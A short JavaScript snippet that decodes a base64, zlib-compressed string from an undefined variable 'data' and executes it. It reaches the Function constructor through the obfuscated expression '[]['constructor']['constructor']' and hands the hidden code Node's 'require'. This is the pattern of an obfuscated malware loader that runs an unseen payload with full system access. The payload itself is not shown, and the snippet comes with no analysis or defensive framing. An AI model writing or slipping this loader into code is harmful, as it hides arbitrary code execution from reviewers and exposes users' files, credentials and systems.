const zlib = require('zlib');
(function (c) {
  const g = zlib.inflateSync(Buffer.from(data, 'base64')).toString();
  [][c][c]('require', g)(require);
})('constructor');
